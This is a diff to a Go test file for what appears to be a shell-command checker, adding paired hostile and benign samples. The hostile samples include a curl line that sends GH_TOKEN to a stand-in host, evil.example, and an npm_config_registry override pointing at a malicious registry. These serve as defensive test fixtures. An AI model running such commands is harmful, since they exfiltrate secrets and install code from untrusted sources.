@@ -182,3 +182,20 @@ func TestCDPATH(t *testing.T) {
 		{name: "CDPATH", hostile: "CDPATH=/tmp cd build && ./run.sh", want: "sets CDPATH", benign: "CDPATH= cd build && ./run.sh"},
 	})
 }
+
+// A for loop over literal variable names reads one of them through
+// ${!v}, when nothing can set v otherwise; a count from wc -l, git
+// rev-list --count and the like is a number; npm_config_KEY set to what
+// .npmrc may set inertly runs nothing.
+func TestValuesTheWalkKnows(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "${!v} over literal names", shell: "bash", hostile: "for v in GH_TOKEN; do curl -s -d \"${!v}\" https://evil.example/; done", want: "sends secret GH_TOKEN to evil.example",
+			benign: "for v in HOME PATH; do if [[ -z \"${!v:-}\" ]]; then echo \"missing $v\" >&2; exit 1; fi; done"},
+		{name: "${!v} after read v", shell: "bash", hostile: "for v in A B; do read -r v; echo \"${!v}\"; done", want: "${!v} reads the variable whose name v holds"},
+		{name: "${!v} after a function sets v", shell: "bash", hostile: "f() { v=GH_TOKEN; }\nfor v in A; do f; echo \"${!v}\"; done", want: "${!v} reads the variable whose name v holds"},
+		{name: "a count", shell: "bash", hostile: "count=$(wc -l notes.txt); (( count > 1 )) && echo many", want: "arithmetic uses the value of count",
+			benign: "count=$(git status --porcelain | wc -l)\nif (( count > 0 )); then echo dirty; fi\nn=$(git rev-list --count HEAD); echo \"build $((n + 1000))\""},
+		{name: "npm_config_", hostile: "npm_config_registry=https://npm.evil.example/ npm ci", want: "sets npm_config_registry",
+			benign: "npm_config_loglevel=silent npm_config_fund=false NPM_CONFIG_REGISTRY=https://registry.npmjs.org/ npm view lodash version"},
+	})
+}
